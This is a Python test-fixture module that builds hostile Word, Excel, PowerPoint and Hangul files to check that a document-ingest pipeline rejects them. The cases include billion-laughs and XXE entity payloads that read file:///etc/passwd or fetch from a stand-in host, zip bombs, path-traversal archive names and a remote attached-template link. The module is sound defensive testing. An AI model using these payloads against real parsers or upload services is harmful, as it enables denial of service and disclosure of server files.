"""Hostile Hangul and Office files."""

from __future__ import annotations

from functools import partial
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from tests.ingest.hostile.case import READ, Case, case
from tests.ingest.office_files import (
    hangul_file,
    ole_with,
    paragraph,
    raw_word_file,
    run,
    sheets_file,
    slides_file,
    word_file,
    zipped,
)

_DECLARED = '<?xml version="1.0"?><!DOCTYPE w [{}]><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>'
_LAUGHS = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 10))
_ENTITIES = {
    "laughs": f'{_LAUGHS}<!ENTITY a "&l9;">',
    "blowup": f'<!ENTITY b "{"x" * 100_000}"><!ENTITY a "{"&b;" * 1_000}">',
    "file": '<!ENTITY a SYSTEM "file:///etc/passwd">',
    "address": '<!ENTITY a SYSTEM "http://192.0.2.1/a">',
    "parameter": '<!ENTITY % p SYSTEM "http://192.0.2.1/a.dtd"> %p; <!ENTITY a "b">',
}


def changed(content: bytes, changes: dict[str, bytes | None], method: int = ZIP_DEFLATED) -> bytes:
    """The package with parts replaced, added, or (None) taken away."""
    made = BytesIO()
    with ZipFile(BytesIO(content)) as old, ZipFile(made, "w", method) as new:
        for name in old.namelist():
            if name not in changes:
                new.writestr(name, old.read(name))
        for name, part in changes.items():
            if part is not None:
                new.writestr(name, part)
    return made.getvalue()


def _declaring(kind: str) -> bytes:
    return changed(word_file(), {"word/document.xml": _DECLARED.format(_ENTITIES[kind]).encode()})


def _nested_tables(levels: int) -> bytes:
    return raw_word_file(
        "<w:tbl><w:tr><w:tc>" * levels + paragraph("안의 글입니다.") + "</w:tc></w:tr></w:tbl>" * levels
    )


def _rows(count: int) -> bytes:
    row = f"<w:tr><w:tc>{paragraph('가의 값')}</w:tc><w:tc>{paragraph('나의 값')}</w:tc></w:tr>"
    return raw_word_file(f"<w:tbl>{row * count}</w:tbl>")


def _wrong_sum() -> bytes:
    made = BytesIO()
    with ZipFile(made, "w") as archive:  # stored: the text stands there as it is
        for name, part in _parts(word_file()).items():
            archive.writestr(name, part)
    return made.getvalue().replace("지원 금액".encode(), "지원 굼액".encode())


def _parts(content: bytes) -> dict[str, bytes]:
    with ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _twice() -> bytes:
    made = BytesIO(word_file())
    with ZipFile(made, "a") as archive:
        info = ZipInfo("word/Document.xml")
        archive.writestr(info, b"<other/>")
    return made.getvalue()


def _locked_hangul() -> bytes:
    content = bytearray(hangul_file(".hwp"))
    content[content.index(b"HWP Document File") + 36] |= 0b10
    return bytes(content)


def _hangul_circle() -> bytes:
    """An OLE file whose table of sectors leads in circles."""
    content = bytearray(hangul_file(".hwp"))
    table = 512 * (1 + int.from_bytes(content[76:80], "little"))
    for place in range(table, min(table + 512, len(content)), 4):
        content[place : place + 4] = (1).to_bytes(4, "little")
    return bytes(content)


def _far_cell() -> bytes:
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/>'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>first</t></is></c></row><row r="1048576">'
        '<c r="XFD1048576" t="inlineStr"><is><t>last</t></is></c></row></sheetData></worksheet>'
    )
    return changed(sheets_file(), {"xl/worksheets/sheet1.xml": sheet.encode()})


def _macros() -> bytes:
    return changed(word_file(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(4000)})


def _ole_object() -> bytes:
    return changed(word_file(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"MZ" + bytes(4000)})


def _template_from_afar() -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return changed(word_file(), {"word/_rels/settings.xml.rels": relation.encode()})


def _only_hidden_slides() -> bytes:
    parts = _parts(slides_file())
    names = [name for name in parts if name.startswith("ppt/slides/slide")]
    return changed(slides_file(), {name: parts[name].replace(b"<p:sld ", b'<p:sld show="0" ') for name in names[:3]})


CASES: tuple[Case, ...] = (
    case("empty.docx", b"", "EMPTY_FILE"),
    case("zeros.hwp", bytes(4096), "EMPTY_FILE"),
    case("cut.docx", lambda: word_file()[:-400], "CORRUPT"),
    case("cut.pptx", lambda: slides_file()[:9000], "CORRUPT"),
    case("cut.xlsx", lambda: sheets_file()[:2000], "CORRUPT"),
    case("cut.hwp", lambda: hangul_file(".hwp")[:3000], "CORRUPT"),
    case("cut.hwpx", lambda: hangul_file(".hwpx")[:3000], "CORRUPT"),
    case("beginning-only.docx", b"PK\x03\x04", "CORRUPT"),
    case("locked.docx", ole_with("EncryptedPackage"), "ENCRYPTED"),
    case("locked.xlsx", ole_with("EncryptedPackage"), "ENCRYPTED"),
    case("locked.hwp", _locked_hangul, "ENCRYPTED"),
    case("bomb.docx", lambda: changed(word_file(), {"word/document.xml": b" " * 300_000_000}), "BOMB", is_slow=True),
    case("small-bomb.docx", lambda: zipped({"word/document.xml": b" " * 70_000_000}), "BOMB"),
    case(
        "bomb.hwpx",
        lambda: zipped({"mimetype": b"application/hwp+zip", "a.xml": b" " * 270_000_000}),
        "BOMB",
        is_slow=True,
    ),
    case(
        "bomb.xlsx",
        lambda: changed(sheets_file(), {"xl/sharedStrings.xml": b"<a>" + b" " * 270_000_000}),
        "BOMB",
        is_slow=True,
    ),
    case("ten-thousand-parts.docx", lambda: zipped({f"word/{number}": b"" for number in range(10_001)}), "BOMB"),
    *(case(f"entities-{kind}.docx", partial(_declaring, kind), "UNSAFE_XML") for kind in _ENTITIES),
    case(
        "entities.hwpx",
        lambda: changed(
            hangul_file(".hwpx"),
            {"Contents/section0.xml": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
        ),
        "UNSAFE_XML",
    ),
    case(
        "entities.xlsx",
        lambda: changed(sheets_file(), {"xl/sharedStrings.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
        "UNSAFE_XML",
    ),
    case("way-out.docx", lambda: changed(word_file(), {"../../evil.xml": b"<a/>"}), "UNSAFE_NAME"),
    case("absolute.hwpx", lambda: changed(hangul_file(".hwpx"), {"/etc/evil.xml": b"<a/>"}), "UNSAFE_NAME"),
    case("macros.docm", _macros, READ),
    case("ole-object.docx", _ole_object, READ),
    case("template-from-afar.docx", _template_from_afar, READ),
    case("nested-tables.docx", lambda: _nested_tables(40), READ),
    case("deeply-nested-tables.docx", lambda: _nested_tables(20_000), "CORRUPT|read|NO_TEXT|TOO_LARGE"),
    case("deep-xml.docx", lambda: raw_word_file("<w:a>" * 100_000 + "</w:a>" * 100_000), "CORRUPT|NO_TEXT|TOO_LARGE"),
    case("twenty-thousand-rows.docx", lambda: _rows(20_000), READ, is_slow=True),
    case("long-attribute.docx", lambda: raw_word_file(f'<w:p w:x="{"x" * 5_000_000}">{run("글입니다.")}</w:p>'), READ),
    case("wrong-sum.docx", _wrong_sum, "CORRUPT"),
    case("two-documents.docx", _twice, "read|CORRUPT"),
    case(
        "no-document.docx", lambda: changed(word_file(), {"word/document.xml": None}), "CORRUPT|NO_TEXT|TYPE_MISMATCH"
    ),
    case(
        "broken-xml.docx",
        lambda: changed(word_file(), {"word/document.xml": b"<w:document><w:body>"}),
        "CORRUPT|NO_TEXT",
    ),
    case("half-of-a-letter.docx", lambda: raw_word_file(paragraph("글 &#xD800; 입니다.")), "CORRUPT"),
    case("hidden-only.docx", lambda: raw_word_file(paragraph("숨긴 말", "<w:vanish/>")), "NO_TEXT"),
    case("white-only.docx", lambda: raw_word_file(paragraph("흰 말", '<w:color w:val="FFFFFF"/>')), "NO_TEXT"),
    case("hidden-slides-only.pptx", _only_hidden_slides, "NO_TEXT"),
    case("far-cell.xlsx", _far_cell, "read|TOO_LARGE"),
    case("word-in.xlsx", word_file, "TYPE_MISMATCH"),
    case("hangul-in.hwpx", lambda: hangul_file(".hwp"), "TYPE_MISMATCH"),
    case("hangul-x-in.hwp", lambda: hangul_file(".hwpx"), "TYPE_MISMATCH"),
    case("text-in.docx", "글입니다.".encode(), "TYPE_MISMATCH"),
    case("old-word-in.docx", ole_with("WordDocument"), "TYPE_MISMATCH"),
    case("old.doc", ole_with("WordDocument"), "UNSUPPORTED_TYPE"),
    case("old.xls", ole_with("Workbook"), "UNSUPPORTED_TYPE"),
    case("old.ppt", ole_with("PowerPoint Document"), "UNSUPPORTED_TYPE"),
    case("old.hwp", b"HWP Document File V3.00 \x1a" + bytes(200), "UNSUPPORTED_TYPE"),
    case("sectors-in-circles.hwp", _hangul_circle, "CORRUPT"),
    case("noise.hwp", bytes(range(256)) * 40, "TYPE_MISMATCH"),
)
